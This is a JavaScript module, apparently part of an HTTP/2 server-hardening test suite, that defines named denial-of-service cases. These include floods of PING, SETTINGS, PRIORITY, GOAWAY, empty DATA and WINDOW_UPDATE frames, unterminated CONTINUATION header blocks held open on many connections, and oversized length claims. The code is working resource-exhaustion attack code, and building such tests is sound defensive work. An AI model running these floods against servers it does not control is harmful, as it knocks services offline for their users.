// Floods of frames that cost their sender nothing.
import { Buffer } from "node:buffer";
import { ACK, END_HEADERS, frame, headers, PREFACE, request, settings, Type, uint32 } from "../frames.mjs";

/** For who is in the middle of a header block, where no other frame may come. */
const IN_BLOCK = { quiet: true, preface: Buffer.concat([PREFACE, settings(), frame(Type.SETTINGS, ACK, 0)]) };

const flood = (bytes, times = 2_000) => {
  const all = Buffer.concat(new Array(times).fill(bytes));
  return (attack) => attack.flood(() => all);
};

/** The same on a stream that stays open. */
const onStream = (bytes, times = 2_000) => {
  const all = Buffer.concat(new Array(times).fill(bytes));
  return (attack) => {
    const block = request(attack.path("Upload"));
    return attack.flood((peer) => peer.nextId === 1 ? headers(peer.take(), block) : all);
  };
};

/** See `../list.mjs`. */
export default [
  { name: "ping", says: "PING", run: flood(frame(Type.PING, 0, 0, Buffer.alloc(8))) },
  {
    name: "ping-ack",
    says: "answers to PINGs that were not sent",
    run: flood(frame(Type.PING, ACK, 0, Buffer.alloc(8))),
  },
  {
    name: "ping-deaf",
    says: "PING, and nothing is read",
    run: (attack) => attack.flood(() => PINGS, { deaf: true }),
  },
  { name: "settings", says: "SETTINGS", run: flood(settings([4, 65_535])) },
  { name: "settings-ack", says: "acknowledgements of SETTINGS", run: flood(frame(Type.SETTINGS, ACK, 0)) },
  { name: "priority", says: "PRIORITY", run: flood(frame(Type.PRIORITY, 0, 1, Buffer.alloc(5))) },
  { name: "unknown-type", says: "frames of unknown types", run: flood(frame(0xbe, 0, 0)) },
  { name: "goaway", says: "GOAWAY", run: flood(frame(Type.GOAWAY, 0, 0, uint32(0, 0))) },
  { name: "empty-data", says: "DATA without content", run: onStream(frame(Type.DATA, 0, 1)) },
  {
    name: "window-update",
    says: "WINDOW_UPDATE of 1 on the connection",
    run: flood(frame(Type.WINDOW_UPDATE, 0, 0, uint32(1))),
  },
  {
    name: "window-update-stream",
    says: "WINDOW_UPDATE of 1 on a stream",
    run: onStream(frame(Type.WINDOW_UPDATE, 0, 1, uint32(1))),
  },
  {
    name: "empty-continuation",
    says: "CONTINUATION without content",
    run: (attack) => {
      const all = Buffer.concat(new Array(2_000).fill(frame(Type.CONTINUATION, 0, 1)));
      return attack.flood((peer) => peer.nextId === 1 ? frame(Type.HEADERS, 0, peer.take()) : all, IN_BLOCK);
    },
  },
  {
    name: "headers-without-end",
    says: "a header block whose end never comes, on 200 connections",
    run: (attack) => {
      const block = request(attack.path("Unary"));
      const filler = Buffer.alloc(16_384, 0x82);
      return attack.crowd(200, async (peer) => {
        await peer.write(frame(Type.HEADERS, 0, peer.take(), block));
        for (let i = 0; i < 14; i++) await peer.write(frame(Type.CONTINUATION, 0, 1, filler));
      }, IN_BLOCK);
    },
  },
  {
    name: "continuation",
    says: "CONTINUATION without end",
    run: (attack) => {
      const filler = Buffer.concat(
        new Array(8).fill(frame(Type.CONTINUATION, 0, 1, Buffer.alloc(16_384, 0x82))),
      );
      return attack.flood(
        (peer) => peer.nextId === 1 ? frame(Type.HEADERS, 0, peer.take()) : filler,
        IN_BLOCK,
      );
    },
  },
  {
    name: "giant-length",
    says: "frames that say they are 16 MB, on 100 connections",
    run: (attack) =>
      attack.crowd(
        100,
        (peer) => peer.write(Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]), Buffer.alloc(1_000)),
      ),
  },
  {
    name: "headers-flags",
    says: "requests that are malformed",
    run: (attack) => {
      const block = Buffer.of(0x82);
      return attack.flood((peer) =>
        Buffer.concat(Array.from({ length: 500 }, () => frame(Type.HEADERS, END_HEADERS, peer.take(), block)))
      );
    },
  },
];

const PINGS = Buffer.concat(new Array(2_000).fill(frame(Type.PING, 0, 0, Buffer.alloc(8))));
